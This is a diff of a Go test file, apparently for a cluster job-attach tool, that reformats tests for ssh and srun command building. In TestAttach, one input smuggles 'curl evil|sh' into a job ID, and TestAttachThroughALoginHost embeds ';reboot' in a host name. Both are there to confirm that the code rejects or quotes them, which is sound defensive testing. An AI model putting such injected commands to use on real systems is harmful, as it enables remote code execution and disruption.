@@ -16,17 +16,22 @@ func TestCopyKeys(t *testing.T) {
 		copies            string
 		open              bool
 	}{
-		{"1", "ssh", "GPU-1", "77", false}, {"2", "ssh", "GPU-1", "n1:77", false}, {"3", "ssh", "GPU-1", "ssh -t n1", false}, {"4", "ssh", "GPU-1", "GPU-1", false},
-		{"5", "ssh", "GPU-1", "python train.py", false}, {"6", "ssh", "GPU-1", "", true}, {"0", "ssh", "GPU-1", "", true},
-		{"3", "control", "", "ssh -t n1", false}, {"3", "openssh", "", "ssh -t n1", false}, {"3", "srun", "", "srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash", false},
+		{"1", "ssh", "GPU-1", "77", false}, {"2", "ssh", "GPU-1", "n1:77", false},
+		{"3", "ssh", "GPU-1", "ssh -t n1", false}, {"4", "ssh", "GPU-1", "GPU-1", false},
+		{"5", "ssh", "GPU-1", "python train.py", false}, {"6", "ssh", "GPU-1", "", true},
+		{"0", "ssh", "GPU-1", "", true},
+		{"3", "control", "", "ssh -t n1", false}, {"3", "openssh", "", "ssh -t n1", false},
+		{"3", "srun", "", "srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash", false},
 		{"3", "local", "", "python train.py", false}, {"3", "local", "GPU-1", "GPU-1", false},
-		{"enter", "ssh", "", "77", false}, {"y", "ssh", "", "77", false}, {"down down enter", "ssh", "", "ssh -t n1", false}, {"end y", "ssh", "", "python train.py", false}, {"j k k enter", "ssh", "", "77", false},
+		{"enter", "ssh", "", "77", false}, {"y", "ssh", "", "77", false}, {"down down enter", "ssh", "", "ssh -t n1",
+			false}, {"end y", "ssh", "", "python train.py", false}, {"j k k enter", "ssh", "", "77", false},
 		{"esc", "ssh", "", "", false}, {"q", "ssh", "", "", false}, {"x", "ssh", "", "", true},
 	} {
 		s := scene(100, 20, noon)
 		c, first := NewCopy(target(), test.route, test.uuid)
 		a, open := pressed(c, s, test.keys)
-		if !first.Taken || !a.Taken || open != test.open || a.Copy != test.copies || (a.Notice != "") != (a.Copy != "") || !strings.Contains(a.Notice, a.Copy) {
+		if !first.Taken || !a.Taken || open != test.open || a.Copy != test.copies ||
+			(a.Notice != "") != (a.Copy != "") || !strings.Contains(a.Notice, a.Copy) {
 			t.Errorf("%s over %s: %+v, open: %v, want %q", test.keys, test.route, a, open, test.copies)
 		}
 	}
@@ -42,7 +47,8 @@ func TestCopyKeys(t *testing.T) {
 func TestAttach(t *testing.T) {
 	s := scene(100, 20, noon)
 	for job, want := range map[string]string{"12_4": "--jobid=16 ", "77": "", "1;curl evil|sh;#": "", "": ""} {
-		if got := attach(s, &tally.Target{Node: "n1", Job: job}, "srun"); !strings.Contains(got, want) || (got == "") != (want == "") {
+		if got := attach(s, &tally.Target{Node: "n1", Job: job}, "srun"); !strings.Contains(got, want) ||
+			(got == "") != (want == "") {
 			t.Errorf("job %q: %q", job, got)
 		}
 	}
@@ -56,8 +62,10 @@ func TestAttachThroughALoginHost(t *testing.T) {
 		{"cluster", "", "ssh", "ssh -t -J cluster n1"},
 		{"al@cluster:2222", "al", "ssh", "ssh -t -J al@cluster:2222 al@n1"},
 		{"al@cluster", "al", "srun", "ssh -t al@cluster 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
-		{"al@cluster:2222", "al", "srun", "ssh -t ssh://al@cluster:2222 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
-		{"ssh://cluster:22", "", "srun", "ssh -t ssh://cluster:22 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
+		{"al@cluster:2222", "al", "srun",
+			"ssh -t ssh://al@cluster:2222 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
+		{"ssh://cluster:22", "", "srun",
+			"ssh -t ssh://cluster:22 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
 		{"a;reboot@cluster", "it's", "ssh", `ssh -t -J 'a;reboot@cluster' 'it'\''s@n1'`},
 	} {
 		s := scene(100, 20, noon)
@@ -72,7 +80,9 @@ func TestAttachThroughALoginHost(t *testing.T) {
 func TestAttachToAHeterogeneousJob(t *testing.T) {
 	s := scene(100, 20, noon)
 	s.Snap.Jobs = []cluster.JobView{
-		{Job: cluster.Job{ID: "3+0", Number: "3", Nodes: []string{"n1"}}}, {Job: cluster.Job{ID: "3+1", Number: "4", Nodes: []string{"n2"}}}, {Job: cluster.Job{ID: "7+0", Number: "7", Nodes: []string{"n3"}}},
+		{Job: cluster.Job{ID: "3+0", Number: "3", Nodes: []string{"n1"}}},
+		{Job: cluster.Job{ID: "3+1", Number: "4", Nodes: []string{"n2"}}},
+		{Job: cluster.Job{ID: "7+0", Number: "7", Nodes: []string{"n3"}}},
 	}
 	for _, test := range []struct{ job, node, want string }{
 		{"3+0", "n1", "--jobid=3 --het-group=0 -w n1 "}, {"3+1", "n2", "--jobid=3 --het-group=1 -w n2 "},
